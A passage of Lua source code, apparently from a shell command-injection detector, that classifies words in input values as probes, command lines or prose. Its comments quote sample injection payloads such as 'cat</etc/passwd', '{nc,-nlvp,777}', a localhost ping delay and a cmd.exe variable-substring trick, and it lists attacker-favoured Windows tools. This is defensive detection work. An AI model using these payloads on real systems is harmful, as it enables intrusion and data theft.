            or (q1 > 0 and q1 % 2 == 0) or (q2 > 0 and q2 % 2 == 0)
        w = gsub(w, "%${[%w_]*}", "")
        w = gsub(w, "%$[@*]", "")
        -- (and so do the positional parameters but $0, "who$1ami": "sh -c"
        -- gives its command none)
        w = gsub(w, "%$[1-9]", "")
        w = gsub(w, "%$%(%)", "")
        w = gsub(w, "%$%(%s*([%a:]+)%s*%)", drop_empty_output)
        w = gsub(w, "``", "")
        if byte(w, 1) ~= 36 then
            w = gsub(w, "%$[%a_][%w_]*", "")   -- sh$u: an unset variable
        end
        w = gsub(w, "\\\r?\n", "")
        w = gsub(w, "['\"\\^]", "")
    end
    return w, j, obf
end


-- (from the end: an unanchored "([^/]+)$" tries every start, and each
-- runs to the next "/", square in a long word's length)
local function basename(w)
    local k = #w
    if byte(w, k) == 47 then
        return w
    end
    while k > 0 and byte(w, k) ~= 47 do
        k = k - 1
    end
    return k == 0 and w or sub(w, k + 1)
end


-- Names that need a pattern to recognize: python3.11, ansible-*, chef-*.
-- The plain prefix test first, so most words never reach string.match.
local function versioned_command(name)
    local c = byte(name, 1)
    if c == 112 then           -- p
        return match(name, "^python[%d.]*$") ~= nil
    elseif c == 97 then        -- a
        return find(name, "ansible-", 1, true) == 1
    elseif c == 99 then        -- c
        return find(name, "chef-", 1, true) == 1
    end
    return false
end


known = function(name)
    return STRONG[name] or WEAK[name] or INTERPRETERS[name] or versioned_command(name)
end


-- A here-string's command: the word before a "<<<" (its path's last
-- name), one of the vocabulary's or a prefix word, or any word right
-- after a separator (";gcc10.1<<<...": the shell runs whatever is there).
here_string = function(s)
    local i = find(s, "<<<", 1, true)
    for _ = 1, 16 do
        if not i then
            return false
        end
        local before, w = match(sub(s, 1, i - 1), "()([%w%._/%-]+)[ \t]*$")
        if w then
            local c = byte(s, before - 1)
            if c == 59 or c == 124 or c == 38 or c == 96 or c == 40 or c == 10 then
                return true
            end
            w = basename(w)
            -- (a name that is also an English word counts at the value's
            -- start: in a sentence, "..., service <<< hopes", "<<<" is
            -- "far less than")
            if (known(w) and not (WEAK[w] and find(s, "%S", 1) < before)) or PREFIX[w] then
                return true
            end
        end
        i = find(s, "<<<", i + 3, true)
    end
    return false
end


-- A brace list where a command is read whose first word, expanded, is a
-- command: the first non-empty item with the word glued after the list.
brace_command = function(s)
    local from = 1
    for _ = 1, 16 do
        local b, e, items, glued = find(s, "{([%w%./_,%-:@?=%%]*)}([%w%./_%-]*)", from)
        if not b then
            return false
        end
        local k = b - 1
        while k > 0 and (byte(s, k) == 32 or byte(s, k) == 9) do
            k = k - 1
        end
        local c = byte(s, k)
        if k == 0 or c == 59 or c == 124 or c == 38 or c == 96 or c == 40 or c == 10 then
            local item = match(items, "[^,]+")
            local w = item and basename(item .. glued)
            if w and (known(w) or PREFIX[w]) then
                return true
            end
        end
        from = e + 1
    end
    return false
end


-- The distinctive names, in a fixed order (a glob's match below).
local STRONG_NAMES = {}
for name in pairs(STRONG) do
    STRONG_NAMES[#STRONG_NAMES + 1] = name
end
table.sort(STRONG_NAMES)

-- "/usr/b?n/who?mi": a path the shell expands against the file system
-- runs the program its last name matches; matched against the
-- vocabulary's distinctive names. (A bare "who?mi" is matched in the
-- working directory, not along PATH: it finds no program. A name with no
-- letter, "/usr/bin/*", is any file, and one several names match,
-- "/mnt/c/*.exe", a listing's.)
local function glob_command(w, name)
    if byte(w, 1) ~= 47 or not find(name, "[%?%*]") or not find(name, "%a") then
        return nil
    end
    local pat = "^" .. gsub(gsub(gsub(name, "[%.%-%+%[%]%(%)%^%$%%]", "%%%0"), "%*", ".*"),
                            "%?", ".") .. "$"
    local found
    for i = 1, #STRONG_NAMES do
        if find(STRONG_NAMES[i], pat) then
            if found then
                return nil            -- "*.exe": a pattern of many files
            end
            found = STRONG_NAMES[i]
        end
    end
    return found
end


-- A name the vocabulary does not know as written, read as Windows writes
-- programs: with its extension (ping.exe) or a switch glued to it
-- (whoami/n, bcdboot/r).
local function windows_name(w, name)
    -- (plain compares: a Lua pattern here left the trace for every word
    -- with a dot, an e-mail address or a version)
    local n = #name
    if n > 4 and byte(name, n - 3) == 46 then
        local ext = sub(name, n - 3)
        if ext == ".exe" or ext == ".com" then
            local stem = sub(name, 1, n - 4)
            if known(stem) then
                return stem
            end
        end
    end
    local c = byte(w, 1)
    if c ~= 47 and c ~= 46 and find(w, "/", 1, true) then
        local stem = match(w, "^([^/]+)/%a+$")
        if stem and STRONG[stem] then
            return stem
        end
    end
    return nil
end


-- A delay primitive: ping with a count to the machine itself waits and
-- does nothing else ("ping -n 30 127.0.0.1", time-based blind
-- injection), wherever it stands; pinging another host is a command line
-- like any other ("ping -c 4 example.com").
local RE_DELAY_PING = [=[^(?=[^\n]*\s-[cnwi]\s*\d)]=]
    .. [=[(?=[^\n]*\s(?:127(?:\.\d{1,3}){3}|localhost|::1|0\.0\.0\.0)(?:\s|$|[;|&`)'"]))]=]


-- nothing but options after the command ("-a", "-n -s", "/all")
local RE_OPTIONS_ONLY = [=[^(?:\s+(?:-{1,2}[a-z][\w-]*|/[a-z?]+))+\s*$]=]


-- How the word at a command position must look to be a command, by what
-- comes before it (scan_commands):
--   AT_START     the start of the value or of a line: a command line
--                written for a human looks the same as one passed to a
--                shell, so a hit here is only a command line
--                (rce-command-line), unless the word is obfuscated or
--                wrapped (time, nohup, strace...), or the value is only a
--                distinctive name
--   AT_BREAKOUT  after a separator with nothing but quotes, spaces or
--                punctuation before it (";", "\" | "): a strong name or
--                an interpreter with any arguments, a weak one as in
--                AT_TOKEN
--   AT_TOKEN     after a separator that follows one argument-like token
--                (127.0.0.1;), inside $(...) and `...`: a strong name, or
--                a weak one bare or with shell-looking or numeric arguments
--   AT_PROSE     after a separator in text: a strong name, or a weak one
--                with shell-looking arguments ("salt & pepper | more")
--   AT_CELL      a cell of a markdown table row: as AT_PROSE, and a name
--                of the prose list needs arguments too
--   AT_SUB       inside $(...) and `...`: as AT_TOKEN, and ")" ends a
--                bare name ("(see Touch)" elsewhere is prose)
-- Returns 2 for an injected command, 1 for a command line, or false.
local AT_START, AT_BREAKOUT, AT_TOKEN, AT_PROSE, AT_CELL, AT_SUB = 1, 2, 3, 4, 5, 6


-- Text filters: a program that reads what the command before its pipe
-- writes and writes it on, changed ("... | stats sum by host | sort
-- -count | head 20", a log search's pipeline). At a pipe's end with only
-- options and numbers, one runs nothing the value brings and reads and
-- writes no file of its own: no command of the value's. A file operand
-- ("| tail /var/log/x"), a redirection ("| sort > f"), an output option
-- ("sort -o f", "--output"), a long option given a name ("sort
-- --compress-program=sh") or a substitution in its arguments is still
-- read as one, and the command before the pipe is read as before.
local FILTERS = set([[
    sort head tail uniq wc cut tr column fold fmt nl rev tac paste expand
    unexpand
    ]])


-- grep as a filter: options that only change what it prints and one
-- pattern of word bytes, no file ("... | grep -v connected", a device's
-- show command searched); a file, a directory to walk ("-r"), a pattern
-- file ("-f") or a second operand is a command's.
local GREP = set([[grep egrep fgrep]])
local GREP_OPTION = set([[-i -v -c -n -w -x -e -E -F -o -q -s -h -H --color --colour
    --ignore-case --invert-match --count --line-number --word-regexp --only-matching]])
local function grep_args_only(rest)
    local stop = find(rest, "[|;&\n\r`]")
    local args = stop and sub(rest, 1, stop - 1) or rest
    if (not stop and #rest > 60) or find(args, "[<>$()'\"\\/]") then
        return false
    end
    local pattern = false
    for arg in gmatch(args, "%S+") do
        if byte(arg, 1) == 45 then
            if not (GREP_OPTION[arg] or find(arg, "^%-[ivcnwxEFoqsHh]+$")
                    or find(arg, "^%-[ABCm]%d+$") or find(arg, "^%-%-colou?r=%a+$")) then
                return false
            end
        elseif pattern or not find(arg, "^[%w_.:-]+$") then
            return false
        else
            pattern = true
        end
    end
    return pattern
end


-- Whether the word at i comes right after one "|" (a pipe, not "||").
local function piped(s, i)
    local k = i - 1
    while k > 0 and (byte(s, k) == 32 or byte(s, k) == 9) do
        k = k - 1
    end
    return byte(s, k) == 124 and byte(s, k - 1) ~= 124
end


-- Whether what a filter at i reads is text no program wrote: the pipeline
-- before it (back to a ";", "&", a line end, a backtick or the value's
-- start) is units of words, none run by a command that is no text
-- filter (the first word that assigns no variable) nor given an option,
-- and the unit right before the pipe is two words or more. What a log
-- search's "stats avg(ms) by host | sort -count" pipes is its own; what
-- "run: ls -la | wc -l" and "ledgerctl -n 5 x.csv | sort" pipe is a
-- program's, and "7 | wc -l" is an argument, then a command.
local function piped_from_text(s, i)
    local k = i - 1
    while k > 0 do
        local c = byte(s, k)
        if c == 59 or c == 38 or c == 10 or c == 13 or c == 96 then
            break
        end
        k = k - 1
    end
    local seg = lower(sub(s, k + 1, i - 1))
    local last_words = 0
    for unit in gmatch(seg, "[^|]+") do
        -- (its command word: the first that assigns no variable; grep
        -- given a pattern alone filters as the others do)
        local words, first, filter = 0, nil, false
        for w in gmatch(unit, "%S+") do
            words = words + 1
            if not first and not find(w, "^[%w_]+=") then
                first = match(w, "^[%w_.+-]+") or ""
                filter = FILTERS[first]
                    or (GREP[first] and grep_args_only(sub(unit, (find(unit, w, 1, true))
                                                                + #w)))
                if (STRONG[first] or WEAK[first] or INTERPRETERS[first]) and not filter then
                    return false
                end
            end
            if find(w, "^%-%-?%a") and not filter then
                return false
            end
        end
        if words > 0 then
            last_words = filter and 2 or words
        end
    end
    return last_words >= 2
end


-- Whether a filter's arguments, up to the next separator or the value's
-- end (rest: what follows its name), are options and numbers only.
local function filter_args_only(rest)
    local stop = find(rest, "[|;&\n\r`]")
    local args = stop and sub(rest, 1, stop - 1) or rest
    if not stop and #rest > 60 then
        return false              -- (rest is cut at 61 bytes: not all read)
    end
    if find(args, "[<>$()'\"\\]") then
        return false
    end
    -- (a long option's value a number at most: sort's
    -- "--compress-program=sh" runs a program)
    for arg in gmatch(args, "%S+") do
        if not (find(arg, "^%d+$") or find(arg, "^%-[%w][%w,.:+-]*$")
                or find(arg, "^%-%-[%w-]+$") or find(arg, "^%-%-[%w-]+=%d+$"))
                or find(arg, "^%-%-?o") then
            return false
        end
    end
    return true
end

-- Built-ins whose arguments are assignments: a variable set, nothing
-- run (command_at reads "NAME=value" after them as no shell argument)
local ASSIGNERS = set([[set export declare typeset readonly]])
local RE_ASSIGNMENT_ARG = [=[^\s+[a-z_]\w*=(?:"[^"]*"|'[^']*'|[^\s;|&`$<>(]*)(?:\s|$)]=]

local WRAPPER = set([[
    time nohup strace ltrace timeout nice env stdbuf unbuffer setsid busybox
    chronic command builtin exec
    ]])


local function start_command(name, strong, rest, bare)
    if strong then
        -- a value that is only a command name ("lastlog") is data
        if find(rest, "^%s*$") then
            return LONE[name] ~= nil
        end
        return bare or not PROSE[name] or re_find(rest, RE_SHELL_ARG, "jo") ~= nil
    end
    if INTERPRETERS[name] then
        return re_find(rest, RE_INTERP_ARG, "jo") ~= nil
    end
    return re_find(rest, RE_SHELL_ARG, "jo") ~= nil
        and re_find(rest, RE_START_ARG, "jo") ~= nil
end


-- The first argument is a subcommand of the built-in (SUBCOMMANDS).
local function subcommand(name, rest)
    local subs = SUBCOMMANDS[name]
    if not subs then
        return false
    end
    -- (followed by a space or the end: "reg add-ons" is a word; cmd.exe
    -- drops the carets of "u^s^e^r")
    local w = match(rest, "^%s+([%a^]+)%s") or match(rest, "^%s+([%a^]+)$")
    if w and find(w, "^", 1, true) then
        w = gsub(w, "%^", "")
    end
    if w == nil or subs[w] == nil then
        return false
    end
    if SUBCOMMAND_WORDY[name] then
        local _, e = find(rest, "^%s+%a+")
        return find(rest, "^%s*$", e + 1) ~= nil or find(rest, "^%s+[%a]", e + 1) == nil
    end
    return true
end


-- The next quote c (39 or 34) from byte i: an apostrophe between two
-- letters ("don't", "it's") is part of a word, no quote.
local function letter(c)
    return c ~= nil and c >= 97 and c <= 122
end


local function next_quote(s, c, i)
    local q = c == 39 and "'" or '"'
    local k = find(s, q, i, true)
    if c == 39 then
        while k and letter(byte(s, k - 1)) and letter(byte(s, k + 1)) do
            k = find(s, q, k + 1, true)
        end
    end
    return k
end


-- After a word (from j): "= value", "?= value", ":= value", "+= value" or
-- "== value", an assignment or a comparison in a configuration language
-- or code ('python = ">=3.10"' in a TOML file, "CC ?= gcc" in a Makefile,
-- "x == 1"), not a command line: a shell would run the word with "=" as
-- its first argument, which no command takes; a path, an option, a
-- variable or shell syntax after it is still read as arguments.
local NOT_ASSIGNED = {}
for c in gmatch("/.~$-`<>|;&\\", ".") do
    NOT_ASSIGNED[byte(c)] = true
end

local function assigned(s, j, n)
    local k = j
    while byte(s, k) == 32 or byte(s, k) == 9 do
        k = k + 1
    end
    local c = byte(s, k)
    if c == 63 or c == 58 or c == 43 then          -- ?= := +=
        k = k + 1
        c = byte(s, k)
    end
    if c ~= 61 then
        return false
    end
    k = k + 1
    if byte(s, k) == 61 then
        k = k + 1
    end
    while byte(s, k) == 32 or byte(s, k) == 9 do
        k = k + 1
    end
    return k > n or not NOT_ASSIGNED[byte(s, k)]
end


-- "then", "else" and "do" are words of a compound command only after the
-- word that opens it ("if ...; then", "for ...; do"): a sentence's "Then
-- open `a`" after a line break is prose, and a shell rejects a "then"
-- with no "if" before it.
local OPENERS = { ["then"] = { "if", "elif" }, ["else"] = { "if", "elif" },
                  ["do"] = { "for", "while", "until", "select" } }

local function keyword_opened(s, i, name)
    local openers = OPENERS[name]
    if not openers then
        return true
    end
    local before = sub(s, 1, i - 1)
    for k = 1, #openers do
        if find(before, "%f[%w]" .. openers[k] .. "%f[%W]") then
            return true
        end
    end
    return false
end


-- What cmd.exe runs (its built-ins and the programs attackers call from
-- it): cmd.exe parses no shell grammar, and reads "," ";" "=" as spaces.
local CMD_CAPABLE = set([[
    ipconfig tracert certutil bitsadmin mshta rundll32 regsvr32 wscript
    cscript msiexec wmic powershell pwsh cmd cmd.exe tasklist taskkill
    systeminfo netsh regedit reg.exe schtasks icacls cacls takeown vssadmin
    wevtutil bcdedit bcdboot diskpart format.com iwr iex iwmi whoami.exe
    net.exe sc.exe findstr nbtstat nltest dsquery qwinsta quser cmdkey
    runas forfiles mklink getmac pathping driverquery waitfor ping whoami
    hostname nslookup netstat arp echo set type dir ver net timeout start
    call copy del more sort find tree route
    ]])


-- "eval x=duration*1000": eval given only assignments (NAME=value
-- words to the separator, no expansion, substitution, redirection or
-- group in a value) runs no command; a log search's "| eval" is one. A
-- word that is no assignment is a command line to eval.
local function assignments_only(s, i, n)
    local any = false
    while i <= n do
        local c = byte(s, i)
        if c == 32 or c == 9 then
            i = i + 1
        elseif c == 59 or c == 124 or c == 38 or c == 10 or c == 13 then
            break
        else
            local _, e = find(s, "^[%a_][%w_]*=", i)
            if not e then
                return false
            end
            i = e + 1
            while i <= n do
                c = byte(s, i)
                if c == 39 or c == 34 then
                    local q = find(s, c == 39 and "'" or '"', i + 1, true)
                    if not q then
                        return false
                    end
                    i = q + 1
                elseif c == 32 or c == 9 or c == 59 or c == 124 or c == 38
                        or c == 10 or c == 13 then
                    break
                elseif c == 36 or c == 96 or c == 40 or c == 41 or c == 60 or c == 62
                        or c == 92 or c == 123 then
                    return false                        -- $ ` ( ) < > \ {
                else
                    i = i + 1
                end
            end
            any = true
        end
    end
    return any
end


local function command_at(s, i, n, mode)
    local wrapped = false
    local i0 = i        -- (where the command position starts)
    for _ = 1, 4 do
        local brace = false
        while i <= n do
            local c = byte(s, i)
            if c == 32 or c == 9 or c == 10 or c == 13 or c == 123
                    or c == 40 or c == 43 then
                brace = c == 123
                i = i + 1
            elseif c == 33 and (byte(s, i + 1) == 32 or byte(s, i + 1) == 9) then
                i = i + 1       -- "! cmd": the shell's negation of its status
            elseif c == 39 or c == 34 then
                -- a quoted phrase ("Curl Recipes") is one word with a
                -- space to a shell: no program has that name (an
                -- unclosed quote is a breakout, read after it)
                -- (a blank looked for up to the close only: a search to
                -- the value's end from each quote of a run of quotes is
                -- square in the value's length)
                local close = next_quote(s, c, i + 1)
                if close and close > i + 1 and find(sub(s, i + 1, close - 1), "%s") then
                    return false
                end
                i = i + 1
            else
                break
            end
        end
        if i > n then
            return false
        end
        local w, j, obf = read_word(s, i, n)
        if w == "" or byte(s, j) == 61 then     -- empty, or NAME=value
            return false
        end
        -- cmd.exe's substring of a variable as the command's name
        -- ("%comspec:~-7,3%" is "cmd"): a name spelled to hide it
        if byte(s, i) == 37 and find(s, "^%%[%a_][%w_]*:~%-?%d+,?%-?%d*%%", i) then
            return 2
        end
        -- a word a "," goes on from is one word to sh ("png;base64,iVBOR":
        -- a data: URL's parameters), the command only to cmd.exe and in a
        -- brace expansion ("{nc,-nlvp,777}" is "nc -nlvp 777")
        if byte(s, j) == 44 and not brace and not CMD_CAPABLE[basename(w)] then
            return false
        end
        -- ... but a blank after the "," ends the word: "{id, name}" is
        -- no expansion, and no program is named "{id," (jq's object)
        if byte(s, j) == 44 and brace and (byte(s, j + 1) == 32 or byte(s, j + 1) == 9) then
            return false
        end
        if assigned(s, j, n) then
            return false
        end
        -- a lone "$" is a shell's prompt in a transcript ("$ make"): as a
        -- word it is a command no shell has, and its line runs nothing
        if w == "$" then
            return false
        end
        local name = basename(w)
        -- (a letter, "&" and a letter, "b&w", "R&D": an abbreviation; w,
        -- the one command of one letter, is no probe glued there)
        if name == "w" and byte(s, i - 1) == 38 and mode ~= AT_START
                and find(s, "^%f[%a]%a&", i - 2) then
            return false
        end
        -- a URL ("https://x.example/pub/curl") names no program
        if name ~= w and find(w, "://", 1, true) then
            return false
        end
        -- (a name under one relative directory runs the file at that
        -- place under the working directory, not the command its last
        -- name spells: "&f/help", a chat's colour code glued to a path; a
        -- bin directory's counts, and so does a word an IFS or an escape
        -- splits, "cat_/etc/passwd")
        if name ~= w and find(w, "^%w+/[%w._-]+$") and not find(w, "bin/", 1, true) then
            name = w
        end
        local var = false
        -- (a variable before a path, "$q/bin/id": unset, it expands to
        -- nothing, and the path is the command)
        if byte(w, 1) == 36 and not find(w, "^%${?[%a_][%w_]*}?/") then  -- $
            name = sub(name, 2)
            -- the shell itself, given a command, an option or nothing;
            -- before a word it would run a script file of that name, and
            -- "$0 → $10k/month" is an amount
            if (name == "shell" or name == "{shell}" or name == "0")
                    and (j > n or find(s, "^[ \t]*[-<;|&)`'\"\r\n]", j)
                         or find(s, "^[ \t]*$", j)) then
                return 2
            end
            var = true                   -- an unset $x expands to nothing
        end
        if var and j <= n then
            i = j
        elseif PREFIX[name] and not keyword_opened(s, i, name) then
            return false
        elseif PREFIX[name] and j <= n then
            local k = j
            while byte(s, k) == 32 or byte(s, k) == 43 or byte(s, k) == 9 do
                k = k + 1
            end
            -- "time; x" and "time" alone are commands themselves, and
            -- so is one whose output is sent on ("env > x", "env | nc")
            local c = byte(s, k)
            -- (in a table's cell or a sentence, "| env | dev |" is a word;
            -- so is a delimited header's column, "place;crew;time;handicap")
            if k > n or (c == 59 and mode ~= AT_CELL) or ((c == 62 or c == 124) and name == "env"
                                    and mode ~= AT_CELL and mode ~= AT_PROSE) then
                return mode ~= AT_START and 2
            end
            -- "env --version", "timeout /t 5", "timeout 10": the prefix
            -- runs as a command itself (cmd.exe's waits whole seconds;
            -- coreutils' "timeout 30s" waits for nothing without a command)
            if mode ~= AT_START and mode ~= AT_CELL
                    and (c == 45 or (name == "timeout"
                                     and (c == 47 or (c >= 48 and c <= 57
                                                      and not find(s, "^%d+%a", k))))) then
                return 2
            end
            -- "timeout 5 cmd": skip a numeric argument
            if name == "timeout" then
                local _, e = find(s, "^[%s+]*%d+%w*", j)
                if e then
                    j = e + 1
                end
            end
            wrapped = wrapped or WRAPPER[name] ~= nil
            i = j
        else
            -- most words are no command: look the name up before the
            -- arguments are read (Lua patterns run outside the JIT trace)
            local strong = STRONG[name] or versioned_command(name)
            if not (strong or INTERPRETERS[name] or WEAK[name]) then
                name = windows_name(w, name) or glob_command(w, name)
                if not name then
                    -- (a Windows program by its extension the vocabulary
                    -- does not know, chained by "&", "|" or ";" after the
                    -- value closed a quote or after one token: 'x.pdf" &
                    -- calc.exe & "' runs it; a path's written "\n" before
                    -- "node.exe" is no chain)
                    if (mode == AT_TOKEN or mode == AT_BREAKOUT)
                            and find(w, "^%a[%w_-]*%.[eE][xX][eE]$")
                            and find(sub(s, i0 > 8 and i0 - 8 or 1, i0 - 1), "[&|;][ \t]*$") then
                        return 2
                    end
                    -- (a program the vocabulary does not know, given an
                    -- option right after a separator that follows one
                    -- token or opens the value: "4a5e1e4b; wallet-cli
                    -- -rpcwallet=hot send ...", "x;miner -o pool:3333"
                    -- run what they name)
                    if not ((mode == AT_TOKEN or mode == AT_BREAKOUT)
                            and find(w, "^%a[%w_.-]+$")
                            and (find(s, "^[ \t]+%-%-?%a[%w-]*[=%s]", j)
                                 or find(s, "^[ \t]+%a[%w-]*[ \t]+%-%-%a[%w-]*[=%s]", j))) then
                        return false
                    end
                    -- (the token an argument's: a digit or a byte no word
                    -- has in it, "Done; see -v output" is a sentence's)
                    -- (after ";", "|" or "&": a line break starts a shown
                    -- command line, a script's or a usage's)
                    local k, chained = i0 - 1, false
                    for _ = 1, i0 do
                        local c = byte(s, k)
                        if not (c == 32 or c == 9 or c == 59 or c == 124 or c == 38) then
                            break
                        end
                        chained = chained or c > 32
                        k = k - 1
                    end
                    if not chained then
                        return false
                    end
                    local st = k
                    for _ = 1, k do
                        local c = byte(s, st - 1)
                        if st <= 1 or c == 32 or c == 9 or c == 10 then
                            break
                        end
                        st = st - 1
                    end
                    return (k < 1 or find(sub(s, st, k), "[^%a]") ~= nil) and 2
                end
                strong = STRONG[name] or versioned_command(name)
            end
            if name == "eval" and assignments_only(s, j, n) then
                return false
            end
            local rest = sub(s, j, j + 60)
            if mode == AT_CELL then
                -- (the "|" that ends the cell is its border, no argument)
                local bar = find(rest, "|", 1, true)
                if bar then
                    rest = sub(rest, 1, bar - 1)
                end
            end
            if byte(rest, 1) == 43 then
                -- a key chord ("Cmd+J = join", "Cmd+Shift+P"): the Mac's
                -- modifier key and a key, or another modifier, no program
                local key = name == "cmd" and match(rest, "^%+(%w+)")
                if key and ((#key <= 2 and byte(rest, #key + 2) ~= 43)
                            or CHORD_KEYS[lower(key)]) then
                    return false
                end
                rest = gsub(rest, "%+", " ")
            end
            -- an interactive client's prompt in a transcript ("mysql> grant
            -- select ...", "sqlite> .tables"), not the client run with its
            -- output sent to a file
            if REPL[name] and find(rest, "^>[ \t]") then
                return false
            end
            if ((FILTERS[name] and filter_args_only(rest))
                    or (GREP[name] and grep_args_only(rest)))
                    and piped(s, i) and piped_from_text(s, i) then
                return false
            end
            if (name == "ping" or name == "ping6")
                    and re_find(rest, RE_DELAY_PING, "jo") then
                return 2
            end
            -- sleep's operand is a duration ("5", "0.5", "1m", "infinity")
            -- or what the shell expands into one ($x, `...`, "5"): a word
            -- of text after it is none ("Sleep Mode=grey", "sleep well")
            if name == "sleep" and find(rest, "^[ \t]+%a") and not find(rest, "^[ \t]+inf") then
                return false
            end
            -- a name compared with a number, then a word: a condition in
            -- prose or pseudocode ("if temp > 85 && rpm < 200 then
            -- alarm"), no redirection (no file is named "200 then")
            if find(rest, "^[ \t]*[<>]=?[ \t]*%-?%d+[.,]?%d*[ \t]+%a") then
                return false
            end
            local bare = rest == "" or find(rest, "^%s*[;|&`\n\r<>]")
                or find(rest, "^%s*$") or (mode == AT_SUB and find(rest, "^%s*%)"))
            local no_operand = bare and NEEDS_OPERAND[name]
            bare = bare and not no_operand
            -- (echo given nothing writes an empty line: no probe, a
            -- title's "Echo; Echo; Echo")
            if bare and name == "echo" and not obf and not find(rest, "^%s*[`<>]") then
                return false
            end
            -- (nor does an editor or a screen monitor given nothing in a
            -- sentence: it waits for a terminal an injected command has
            -- none of, and prose names it, "my tools: tmux & vim")
            if bare and INTERACTIVE[name] and mode == AT_PROSE and not obf then
                return false
            end
            -- (nor does test given nothing: an exit status of 1 and no
            -- output, "clear it && flush && test"; true and false are the
            -- two halves of a blind probe, "$(true)" against "$(false)")
            if bare and name == "test" and mode ~= AT_SUB and not obf
                    and not find(rest, "^%s*[`<>]") then
                return false
            end
            -- (nor does exit given nothing or a status alone, "Kingsway;
            -- westbound; exit 12": the shell ends and runs nothing; a
            -- substitution's "$(exit 3)" is a blind probe's status)
            if name == "exit" and mode ~= AT_SUB and not obf
                    and (bare or find(rest, "^[ \t]+%d+[ \t]*$")
                         or find(rest, "^[ \t]+%d+[ \t]*[;|&\"'\r\n]")) then
                return false
            end
            -- a filter given nothing reads its standard input, which an
            -- injected command has empty: "dog & cat" runs no probe (a
            -- redirection after it, "cat</etc/passwd", gives it a file)
            -- (a name spelled to hide it, "cat$()", is a probe whatever it runs)
            if bare and not obf and (FILTERS[name] or name == "cat" or name == "more"
                                     or name == "less")
                    and not find(rest, "^%s*[<>]") and mode ~= AT_START then
                return false
            end
            -- a name spelled to hide it (quotes, escapes or an empty
            -- substitution inside it: "ec\"\"ho", "w\hoami") is a probe
            -- wherever it stands and whatever it is given; a backslash
            -- that only opens it is TeX's control word too ("\node at")
            if obf and find(sub(s, i + 1, j - 1), "[\"'\\^$`]") then
                return 2
            end
            -- (a command that needs an operand given none, "sleep && x",
            -- is a usage error that runs nothing; what follows the
            -- separator is read as a command of its own)
            if no_operand then
                return false
            end
            if mode == AT_START then
                if obf or (wrapped and STRONG[name] and not PROSE[name]) then
                    return 2
                end
                -- an interpreter given a program text runs it
                local inline = RE_INLINE_CODE[name]
                if inline and re_find(rest, inline, "jo") then
                    return 2
                end
                -- only a distinctive name, ended by a newline (visudo\n),
                -- or one called by its bin/ path (/usr/bin/id\n: no word
                -- of prose is written that way)
                if strong and (not PROSE[name] or find(w, "^/[%w/._-]*bin/"))
                        and find(rest, "^[ \t]*[\r\n]%s*$") then
                    return 2
                end
                if not start_command(name, strong, rest, bare) then
                    return false
                end
                -- a host-information command with only options is the
                -- whole value ("uname -a", "ipconfig /all"): a probe
                return (strong and LONE[name] and (find(rest, "^%s*$")
                                                   or re_find(rest, RE_OPTIONS_ONLY, "jo")))
                    and 2 or 1
            elseif mode == AT_BREAKOUT and (strong or INTERPRETERS[name]) then
                return 2
            end
            local weak_arg = not bare and (re_find(rest, RE_SHELL_ARG, "jo")
                                            or subcommand(name, rest))
            -- (a variable set and nothing run: "; set twinkle=0.35 in
            -- starfield.cfg", "; export TZ=UTC"; a chain or a command
            -- after it is read on its own)
            if weak_arg and ASSIGNERS[name] and re_find(rest, RE_ASSIGNMENT_ARG, "jo") then
                weak_arg = false
            end
            -- (nor is a long option one of theirs: set, export, declare
            -- take letters after one "-"; "...; export --pdf next" is a
            -- button's label in a sentence)
            if weak_arg and ASSIGNERS[name] and find(rest, "^%s+%-%-%a") then
                weak_arg = false
            end
            if mode ~= AT_PROSE and mode ~= AT_CELL and not weak_arg and not bare then
                weak_arg = re_find(rest, RE_NUMBER_ARG, "jo")
                    or re_find(rest, RE_REDIRECT_ARG, "jo")
            end
            if mode == AT_CELL or mode == AT_PROSE then
                bare = false
                -- a product named with its version in a sentence ("...;
                -- GCC 3.3 ships it", "& Docker 24.0 with"): a number then
                -- words, no argument a program takes
                if strong and not weak_arg and re_find(rest, RE_VERSION_WORDS, "jo") then
                    return false
                end
            end
            if strong then
                local subs = TOOL_SUBCOMMANDS[name]
                if (subs and mode ~= AT_START)
                        or (FILE_ARGS[name] and (mode == AT_PROSE or mode == AT_CELL)) then
                    local sw = match(rest, "^%s+(%a[%a-]*)%f[^%a-]")
                    if sw and not (subs and subs[lower(sw)])
                            and not find(rest, "^%s+%a[%a-]*[./]") then
                        return false
                    end
                    -- (nor a number or a flat's, "; apt 7C, ring
                    -- twice": no subcommand starts with a digit; nor, in
                    -- a sentence or a cell, is a number a file's name,
                    -- "| ash 25 |", a board's size)
                    if find(rest, "^%s+%d%w*%f[^%w./]") then
                        return false
                    end
                end
                return (mode ~= AT_CELL or not PROSE[name] or weak_arg) and 2
            end
            return (bare or weak_arg) and 2
        end
    end
    return false
end


-- What stands before a separator, from i to z: 0 nothing but quotes,
-- spaces and punctuation; 1 one word of letters (or one ending in ":");
-- 2 one token with digits or punctuation (127.0.0.1, a), x'); 3 text.
local function head_kind(s, i, z)
    local alnum, letters, space, last = false, true, false, 0
    for k = i, z do
        local c = byte(s, k)
        if c == 32 or c == 9 or c == 43 or c == 10 or c == 13 then
            if alnum then
                space = true
            end
        elseif (c >= 97 and c <= 122) or (c >= 65 and c <= 90) then
            if space then
                return 3
            end
            alnum = true
        elseif c >= 48 and c <= 57 or c >= 128 then
            if space then
                return 3
            end
            alnum = true
            letters = false
        else
            if space then
                return 3
            end
            letters = false
        end
        if c ~= 32 and c ~= 9 and c ~= 43 then
            last = c
        end
    end
    if not alnum then
        return 0
    end
    if letters or last == 58 then
        return 1
    end
    return 2
end


-- A "(" glued to a word from i to z ("main()", "x.exists(p)"): a call in
-- code; the shell reads "f()" as a function's head and "f(x" as a syntax
-- error, so the line after it runs nothing ("$(", "<(", ">(", "=(" open).
local function glued_paren(s, i, z)
    local k = find(s, "(", i, true)
    while k and k <= z do
        local p = k > i and byte(s, k - 1)
        if p and ((p >= 97 and p <= 122) or (p >= 65 and p <= 90)
                  or (p >= 48 and p <= 57) or p == 95) then
            return true
        end
        k = find(s, "(", k + 1, true)
    end
    return false
end


-- Text from i to z that ends with a quote (spaces after it) that closes
-- the argument the application quoted: an odd count of that quote from
-- the value's start ("two words\" ; sleep 5"). What stands before it was
-- inside the application's quotes, whatever it is; the separator after
-- it ends the argument, as after a bare breakout (";"). A quote after a
-- digit is a prime (15", 5'10"): no quote.
local function closes_quote(s, i, z)
    while z >= i and (byte(s, z) == 32 or byte(s, z) == 9 or byte(s, z) == 43) do
        z = z - 1
    end
    local c = byte(s, z)
    if z < i or (c ~= 34 and c ~= 39) then
        return false
    end
    local p = byte(s, z - 1)
